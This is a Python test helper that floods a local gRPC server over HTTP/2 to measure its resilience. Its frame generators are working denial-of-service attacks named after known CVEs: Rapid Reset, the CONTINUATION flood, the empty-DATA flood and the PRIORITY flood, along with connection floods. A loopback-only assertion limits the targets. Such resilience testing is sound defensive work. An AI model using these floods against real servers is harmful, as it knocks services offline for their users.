"""Hostile HTTP/2 connections: frames that cost their sender nothing, on loopback only.

`python flooding.py KIND HOST:PORT SECONDS [--rate N] [--count N] [--tls]` floods from a process of
its own, so that it does not share an interpreter with the measurement, and prints one line of JSON.
It has no token, and makes no call that a server would answer.
"""

from __future__ import annotations

import argparse
import ipaddress
import itertools
import json
import socket
import ssl
import struct
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from select import select

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY = 0, 1, 2, 3, 4, 6, 7
WINDOW_UPDATE, CONTINUATION, UNKNOWN = 8, 9, 0x42
ACK, END_HEADERS = 1, 4
INITIAL_WINDOW_SIZE = 4
STREAM_MAX = 2**31 - 1
BURST = 200  # frames that are written at once
PATH = b"/lstmserve.v1.LstmService/StepStream"


def frame(kind: int, payload: bytes = b"", *, flags: int = 0, stream: int = 0) -> bytes:
    """One frame of RFC 9113."""
    return struct.pack(">IBI", len(payload) << 8 | kind, flags, stream) + payload


def request() -> bytes:
    """A header block (RFC 7541): POST, http, the path, and the type that gRPC wants."""
    literals = [(4, PATH), (1, b"flood"), (31, b"application/grpc")]
    block = bytes([0x83, 0x86])
    for index, text in literals:
        prefix = bytes([index]) if index < 15 else bytes([15, index - 15])
        block += prefix + bytes([len(text)]) + text
    return block + b"\x00\x02te\x08trailers"


def settings() -> Iterator[bytes]:
    """SETTINGS, each of which must be applied and acknowledged."""
    payload = struct.pack(">HI", INITIAL_WINDOW_SIZE, 65_535)
    return itertools.repeat(frame(SETTINGS, payload))


def pings() -> Iterator[bytes]:
    """PING, each of which must be answered."""
    return itertools.repeat(frame(PING, bytes(8)))


def window_updates() -> Iterator[bytes]:
    """WINDOW_UPDATE of the connection, by one byte."""
    return itertools.repeat(frame(WINDOW_UPDATE, struct.pack(">I", 1)))


def resets() -> Iterator[bytes]:
    """Calls that are reset as soon as they begin (CVE-2023-44487)."""
    cancelled = struct.pack(">I", 8)
    for stream in range(1, STREAM_MAX, 2):
        yield frame(HEADERS, request(), flags=END_HEADERS, stream=stream)
        yield frame(RST_STREAM, cancelled, stream=stream)


def empty_data() -> Iterator[bytes]:
    """One call whose message never comes: DATA without a byte (CVE-2019-9518)."""
    yield frame(HEADERS, request(), flags=END_HEADERS, stream=1)
    yield from itertools.repeat(frame(DATA, stream=1))


def continuations() -> Iterator[bytes]:
    """Headers that never end (CVE-2024-27316): empty, so that no limit of size stops them."""
    yield frame(HEADERS, request(), stream=1)
    yield from itertools.repeat(frame(CONTINUATION, stream=1))


def long_headers() -> Iterator[bytes]:
    """Headers that never end, and grow."""
    yield frame(HEADERS, request(), stream=1)
    yield from itertools.repeat(frame(CONTINUATION, b"\x00\x01a\x7f\x00" + b"b" * 127, stream=1))


def priorities() -> Iterator[bytes]:
    """PRIORITY of streams that are not there (CVE-2019-9513)."""
    for stream in itertools.cycle(range(1, 2001, 2)):
        yield frame(PRIORITY, struct.pack(">IB", 0, 1), stream=stream)


def unknown() -> Iterator[bytes]:
    """Frames of a kind that a server may ignore, by RFC 9113."""
    return itertools.repeat(frame(UNKNOWN))


def calls() -> Iterator[bytes]:
    """Calls that begin, and never end: each waits for its first message, or for a place."""
    for stream in range(1, STREAM_MAX, 2):
        yield frame(HEADERS, request(), flags=END_HEADERS, stream=stream)


FRAMES: dict[str, Callable[[], Iterator[bytes]]] = {
    "settings": settings,
    "ping": pings,
    "window-update": window_updates,
    "reset": resets,
    "empty-data": empty_data,
    "continuation": continuations,
    "long-headers": long_headers,
    "priority": priorities,
    "unknown": unknown,
    "calls": calls,
}
# Of connections, not of frames: never a byte (a handshake half open); opened and closed at once.
SILENT, SHORT = "silent", "short"
KINDS = (*FRAMES, SILENT, SHORT)


@dataclass(frozen=True)
class Sent:
    """What a flood did: its frames (or connections), and what ended it early."""

    count: int
    seconds: float
    cut: str = ""

    @property
    def per_s(self) -> float:
        """Its rate."""
        return self.count / max(self.seconds, 1e-9)


class Flood:
    """A flood in a process of its own, as a context manager."""

    def __init__(
        self,
        kind: str,
        address: str,
        seconds: float,
        *,
        rate: int = 20_000,
        count: int = 1_000_000,
        tls: bool = False,
    ) -> None:
        flags = ["--rate", str(rate), "--count", str(count), *(["--tls"] if tls else [])]
        self.kind = kind
        self._process = subprocess.Popen(
            [sys.executable, __file__, kind, address, str(seconds), *flags],
            stdout=subprocess.PIPE,
            text=True,
        )

    @property
    def is_over(self) -> bool:
        """Whether it has ended."""
        return self._process.poll() is not None

    def ended(self) -> Sent:
        """What it did, once it is over."""
        out, _ = self._process.communicate()
        assert self._process.returncode == 0, out
        return Sent(**json.loads(out))

    def __enter__(self) -> Flood:
        return self

    def __exit__(self, *_: object) -> None:
        self._process.kill()
        self._process.wait()
        assert self._process.stdout is not None
        self._process.stdout.close()


def flood(kind: str, address: str, seconds: float, rate: int, count: int, tls: bool) -> Sent:
    """Floods from this process for `seconds`, with `count` frames at most, or until it is cut."""
    host, _, port = address.rpartition(":")
    assert ipaddress.ip_address(host).is_loopback, "only this machine is ours to flood"
    if kind in (SILENT, SHORT):
        return _connect(kind, (host, int(port)), seconds, rate, count)
    connection = socket.create_connection((host, int(port)))
    if tls:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        connection = context.wrap_socket(connection)
    connection.setblocking(False)
    with connection:
        return _pour(connection, FRAMES[kind](), seconds, rate, count)


def _pour(
    connection: socket.socket, frames: Iterator[bytes], seconds: float, rate: int, count: int
) -> Sent:
    start_s, sent, heard = time.monotonic(), 0, bytearray()
    waiting = memoryview(PREFACE + frame(SETTINGS))
    while (now_s := time.monotonic() - start_s) < seconds and (sent < count or waiting):
        if not waiting and sent < min(count, rate * now_s):
            waiting = memoryview(b"".join(itertools.islice(frames, BURST)))
            sent += BURST
        try:
            readable, _, _ = select([connection], [connection] if waiting else [], [], 0.001)
            if waiting:
                waiting = waiting[_write(connection, waiting) :]
            if readable and (end := _hear(connection, heard)):
                return Sent(sent, time.monotonic() - start_s, end)
        except OSError as error:
            return Sent(sent, time.monotonic() - start_s, _farewell(heard) or str(error))
    return Sent(sent, time.monotonic() - start_s)


def _write(connection: socket.socket, content: memoryview) -> int:
    try:
        return connection.send(content)
    except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
        return 0


def _hear(connection: socket.socket, heard: bytearray) -> str:
    """Reads what is there, and keeps the newest bytes. Returns why the connection ended, or ""."""
    while True:
        try:
            content = connection.recv(65_536)
        except (BlockingIOError, ssl.SSLWantReadError):
            return ""
        if not content:
            return _farewell(heard) or "closed"
        heard += content
        del heard[:-4096]


def _farewell(heard: bytes) -> str:
    """The text of a GOAWAY at the end of the bytes."""
    at = heard.rfind(struct.pack(">BBI", GOAWAY, 0, 0))
    return heard[at + 14 :].decode("ascii", "replace").split("\0")[0] if at >= 3 else ""


def _connect(kind: str, address: tuple[str, int], seconds: float, rate: int, count: int) -> Sent:
    start_s, made, held = time.monotonic(), 0, []
    while (now_s := time.monotonic() - start_s) < seconds and made < count:
        if made >= rate * now_s:
            select([], [], [], 0.001)
            continue
        try:
            connection = socket.create_connection(address, timeout=1)
        except OSError as error:
            return Sent(made, time.monotonic() - start_s, str(error))
        made += 1
        if kind == SHORT:
            connection.close()
        else:
            held.append(connection)
    while time.monotonic() - start_s < seconds:  # others are measured meanwhile
        select([], [], [], 0.01)
    for connection in held:
        connection.close()
    return Sent(made, time.monotonic() - start_s)


def main() -> None:
    """Floods as the command line says."""
    parser = argparse.ArgumentParser()
    parser.add_argument("kind", choices=KINDS)
    parser.add_argument("address")
    parser.add_argument("seconds", type=float)
    parser.add_argument("--rate", type=int, default=20_000)
    parser.add_argument("--count", type=int, default=1_000_000)
    parser.add_argument("--tls", action="store_true")
    print(json.dumps(vars(flood(**vars(parser.parse_args())))))


if __name__ == "__main__":
    main()
